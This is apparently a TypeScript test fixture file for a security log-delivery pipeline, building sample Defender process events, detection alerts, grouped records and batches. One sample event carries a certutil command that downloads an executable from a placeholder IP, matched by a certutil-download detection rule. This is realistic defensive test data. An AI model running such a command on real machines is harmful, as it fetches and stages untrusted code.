import { deliveryWith } from '../../lab/delivery.ts';
import { makeBatch } from '../../src/delivery/batch.ts';
import { Encoder } from '../../src/delivery/encoder.ts';
import { MemoryBudget } from '../../src/delivery/memory-budget.ts';
import type { Batch, Delivery, Destination } from '../../src/destinations/port.ts';
import type { Envelope } from '../../src/shared/event.ts';

const TENANT = '11111111-2222-3333-4444-555555555555';

/** A believable envelope; `over` replaces parts of it. */
export function envelope(number: number, over: Partial<Envelope> = {}): Envelope {
  return {
    id: number.toString(16).padStart(32, '0'),
    time: '2026-11-23T07:01:02.1234567Z',
    received: '2026-11-23T07:03:00.0000000Z',
    tenant: TENANT,
    table: 'DeviceProcessEvents',
    event: {
      Timestamp: '2026-11-23T07:01:02.1234567Z',
      DeviceId: 'd3adb33fd3adb33fd3adb33fd3adb33fd3adb33f',
      DeviceName: 'ws-042.contoso.example',
      AccountUpn: 'alice@contoso.example',
      FileName: 'certutil.exe',
      InitiatingProcessFileName: 'cmd.exe',
      ProcessCommandLine: 'certutil.exe -urlcache -f http://203.0.113.9/a.exe',
      ReportId: number,
    },
    source: {
      blob: `insights-logs-advancedhunting-deviceprocessevents/tenantId=${TENANT}/y=2026/m=11/d=23/h=07/m=00/PT1H.json`,
      offset: number * 1_650,
    },
    ...over,
  };
}

/** The same with a rule: an alert. */
export function alert(number: number, over: Partial<Envelope> = {}): Envelope {
  return envelope(number, {
    alertId: `a1e47${number.toString(16).padStart(27, '0')}`,
    severity: 'high',
    rule: {
      title: 'Download with certutil',
      id: 'e011a729-98a6-4139-b5c4-bf6f6dd8239a',
      description: 'certutil fetches a file, which administrators seldom do.',
      tags: ['attack.command-and-control', 'attack.t1105'],
      falsepositives: ['Certificate roll-outs'],
      matched: [{ column: 'FileName', value: 'certutil.exe' }],
    },
    ...over,
  });
}

/** An alert as the record of a group of seven. */
export function groupRecord(number: number): Envelope {
  const time = '2026-11-23T07:01:02Z';
  const group = {
    phase: 'update',
    scope: 'group',
    count: 7,
    firstTime: time,
    lastTime: time,
    by: [],
    firstAlertId: 'a',
  } as const;
  return { ...alert(number), group } as Envelope;
}

/** The record that an envelope without a rule becomes in the shape `relay`. */
export function eventRecord(made: Envelope): object {
  return { kind: 'event', ...made };
}

/** A delivery whose raw row is a Defender row. */
export function deliveryOf(made: Envelope): Delivery {
  const row = {
    time: made.received,
    tenantId: made.tenant,
    operationName: 'Publish',
    category: `AdvancedHunting-${made.table}`,
    properties: made.event,
  };
  return deliveryWith(made, JSON.stringify(row));
}

/** A batch as delivery/ would make it. */
export function batchOf(destination: Destination, envelopes: readonly Envelope[], id = 'msg_1'): Batch {
  const { encoding } = destination;
  const endless = Number.POSITIVE_INFINITY;
  const limits = { items: endless, bytes: endless, ageMs: endless };
  const encoder = new Encoder(encoding, limits, new MemoryBudget(0));
  const items = envelopes.map((made, at) =>
    encoder.encode({ offset: at, end: at + 10, bytes: Buffer.alloc(0) }, deliveryOf(made)),
  );
  return { ...makeBatch('lane', items, encoding), id };
}
